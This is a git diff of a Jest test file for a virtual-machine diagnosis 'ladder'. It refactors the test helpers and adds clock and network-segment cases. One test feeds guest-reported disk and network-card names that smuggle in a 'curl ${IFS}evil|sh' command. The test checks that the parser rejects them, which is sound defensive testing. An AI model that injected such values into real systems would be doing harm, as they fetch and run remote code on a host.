@@ -1,92 +1,24 @@
 import { expect, test } from "@jest/globals";
-import { bootRungs } from "../../../provider/diagnose/boot";
-import type { Facts, Source } from "../../../provider/diagnose/facts";
-import { guestRungs } from "../../../provider/diagnose/guest";
-import { climb, type RungName } from "../../../provider/diagnose/ladder";
-import { networkRungs } from "../../../provider/diagnose/network";
-import { readNetwork, readState } from "../../../provider/diagnose/report";
-import { sshRungs } from "../../../provider/diagnose/ssh";
-import { wordsFor } from "../../../provider/diagnose/words";
+import type { RungName } from "../../../provider/diagnose/ladder";
+import { readState } from "../../../provider/diagnose/report";
 import { MayflyError } from "../../../provider/errors";
-import type { MachineSight } from "../../../provider/machines/inspection";
 import { readConsole } from "../../../provider/machines/inspection";
 import { explained } from "../../../provider/resources/diagnosed";
+import {
+  diagnosis,
+  FINGERPRINT,
+  host,
+  login,
+  MAC,
+  network,
+  refused,
+  segment,
+  silent,
+  state,
+  type Change,
+} from "../../support/patient";
 
 // The ladder's logic, by facts as data: one healthy machine, and what is different in a broken one.
-
-const RUNGS = [...bootRungs, ...networkRungs, ...sshRungs, ...guestRungs];
-
-const FINGERPRINT = "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU";
-
-/** What an agent tells of a healthy guest; lines that replace its own, by name. */
-function state(change: Readonly<Record<string, readonly string[]>> = {}) {
-  const lines = {
-    snmp: ["Icmp: InMsgs OutDestUnreachs", "Icmp: 0 0", "Tcp: PassiveOpens OutRsts", "Tcp: 5 0"],
-    uptime: ["100.5 180.0"],
-    load: ["0.10 0.20 0.30 1/80 700"],
-    "memory-total": ["1000000 kB"],
-    "memory-available": ["800000 kB"],
-    disk: ["/ 4096 200000 190000 50000 49000", "/run 4096 50000 49000 0 0"],
-    init: ["systemd"],
-    pid1: ["S systemd"],
-    systemd: ["running"],
-    sshd: ["S sshd"],
-    door: ["open"],
-    account: ["0:/bin/bash"],
-    "shell-runs": ["yes"],
-    path: ["644 0 /etc/mayfly/access.1/keys/root", "755 0 /etc/mayfly", "755 0 /"],
-    ...change,
-  };
-  return { report: readState(new Map(Object.entries(lines))) };
-}
-
-function network(change: Readonly<Record<string, readonly string[]>> = {}) {
-  const lines = {
-    snmp: ["Icmp: InMsgs OutDestUnreachs", "Icmp: 0 0", "Tcp: PassiveOpens OutRsts", "Tcp: 5 0"],
-    "card-flags": ["0x1003"],
-    "card-address": ["inet 10.53.0.15/24 scope global eth0"],
-    ...change,
-  };
-  return readNetwork(new Map(Object.entries(lines)));
-}
-
-const host: MachineSight = {
-  record: undefined,
-  isBeingMade: false,
-  canStartAgain: true,
-  container: { status: "running", exitCode: 0 },
-  qemu: { pid: 77, processState: "S", cpuShare: 0.1, status: "running" },
-  sshPort: 40_000,
-  console: readConsole("mayfly: starting /sbin/init\n"),
-};
-const port = { address: "127.0.0.1:40000", banner: "SSH-2.0-x", ended: undefined, seconds: 0.1 };
-const silent = { ...port, banner: undefined, seconds: 4, relays: ["TCP[SYN_SENT] 9 10.0.2.100 2222 10.53.0.15 64022"] };
-const login = {
-  reached: "open",
-  seen: "",
-  seconds: 0.6,
-  log: [],
-  keysInGuest: undefined,
-  ownHostKey: undefined,
-} as const;
-const healthy = { host, guest: state(), port, login };
-
-const refused = (seen: string, keysInGuest?: readonly string[]) => ({
-  ...{ ...login, reached: "key" as const, seen, keysInGuest },
-  log: ["Failed publickey for root"],
-});
-
-/** Climbs, over facts that are given out source by source. */
-async function diagnosis(change: Partial<Record<Source, unknown>> = {}) {
-  const seen: Source[] = [];
-  const facts = { ...healthy, ...change } as Required<Omit<Facts, "machine">>;
-  const machine = wordsFor("web-1", "web", "root", host);
-  const judged = await climb(RUNGS, { machine }, (source, before) => {
-    seen.push(source);
-    return Promise.resolve({ ...before, [source]: facts[source] });
-  });
-  return { ...judged, seen };
-}
 
 test("a machine that is well: all sources are looked at once, all rungs are right", async () => {
   const { rungs, isHealthy, firstBroken, seen } = await diagnosis();
@@ -101,7 +33,7 @@ const panic = readConsole("mayfly: starting /sbin/init\nKernel panic - not synci
 const thrashing = readConsole(`mayfly: starting /sbin/init\n${killed}\n`);
 const mute = { report: undefined, banner: false };
 
-test.each<[string, Partial<Record<Source, unknown>>, RungName, RegExp]>([
+test.each<[string, Change, RungName, RegExp]>([
   ["no container", { host: { ...host, container: undefined } }, "container", /was removed/],
   ["paused", { host: { ...host, container: { status: "paused", exitCode: 0 } } }, "container", /has paused/],
   ["ended", { host: { ...host, container: { status: "exited", exitCode: 137 } } }, "container", /ended, or was killed/],
@@ -227,6 +159,20 @@ test.each<[string, Partial<Record<Source, unknown>>, RungName, RegExp]>([
   ["memory", { guest: state({ "memory-available": ["1000 kB"] }) }, "memory", /hardly any memory/],
   ["killed", { guest: state({ "out-of-memory": [killed] }) }, "memory", /killed tail \(pid 300\)/],
   ["disk", { guest: state({ disk: ["/ 4096 200000 0 50000 49000"] }) }, "disk", /^\/ is full$/],
+  ["clock ahead", { guest: state({ clock: ["1000070"] }) }, "clock", /clock is wrong/],
+  ["clock behind", { guest: state({ clock: ["999940"] }) }, "clock", /clock is wrong/],
+  ["no switch", { segments: [{ ...segment, isSwitched: false }] }, "networks", /carries nothing/],
+  ["a network's card gone", { guest: state({ segment: [] }) }, "networks", /card in lan-1 is gone/],
+  [
+    "a network's card down",
+    { guest: state({ segment: [`${MAC} eth1 0x1002 10.80.0.7/24`] }) },
+    ...(["networks", /card in lan-1 is down/] as const),
+  ],
+  [
+    "no address in a network",
+    { guest: state({ segment: [`${MAC} eth1 0x1003`] }) },
+    ...(["networks", /not have its address 10\.80\.0\.7 in lan-1/] as const),
+  ],
   ["inodes", { guest: state({ disk: ["/ 4096 200000 9999 50000 0"] }) }, "disk", /as many files as it can/],
 ])("%s", async (_, change, rung, cause) => {
   const { firstBroken, isHealthy } = await diagnosis(change);
@@ -264,7 +210,7 @@ test("a machine whose agent is silent but whose sshd answers is judged by that",
   const { rungs, isHealthy } = await diagnosis({ guest: { report: undefined, banner: true } });
   expect(isHealthy).toBe(true);
   expect(rungs.filter(({ state: verdict }) => verdict === "unknown").map(({ name }) => name)).toEqual([
-    ...["init", "sshd", "load", "memory", "disk"],
+    ...["init", "sshd", "load", "memory", "disk", "clock", "networks"],
   ]);
 });
 
@@ -289,6 +235,7 @@ test("what a guest says cannot move the reader's cursor", () => {
   expect(report.sshd.hostKey).toBe("[2Jssh-ed25519   AAAA");
   expect(report.disks).toEqual([]);
   // What is told to be full is named in a command for the host.
+  expect(state({ segment: [`${MAC} e;curl\${IFS}evil|sh 0x1003`] }).report.cards).toEqual([]);
   expect(state({ disk: ["/tmp;curl${IFS}evil|sh 4096 200000 0 50000 0"] }).report.disks).toEqual([]);
 });
 
